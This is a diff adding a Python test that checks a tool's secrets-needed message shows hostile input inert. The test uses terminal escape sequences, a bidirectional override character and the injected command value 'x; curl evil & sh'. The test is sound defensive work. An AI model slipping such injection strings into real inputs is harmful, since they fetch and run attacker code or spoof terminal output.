@@ -179,6 +179,16 @@ def test_what_it_needs_is_told(theirs: Task, library: Library) -> None:
     )
 
 
+def test_what_it_calls_itself_is_no_command(theirs: Task, library: Library) -> None:
+    pin = replace(theirs.steps[1], value=Value("secret", "p\x1b[2Jin\u202e"))
+    task_file.save(replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:])))
+    needs = taken(library, theirs.folder, "x; curl evil & sh").needs
+    assert needs[-1] == (
+        "It needs these secrets of yours: p�[2Jin�; lam secret 'x; curl evil & sh' keeps one, or each run"
+        " asks."
+    )
+
+
 def test_neither_approvals_nor_kept_secrets_wait_for_it(
     theirs: Task, library: Library, ring: MemoryKeyring
 ) -> None:
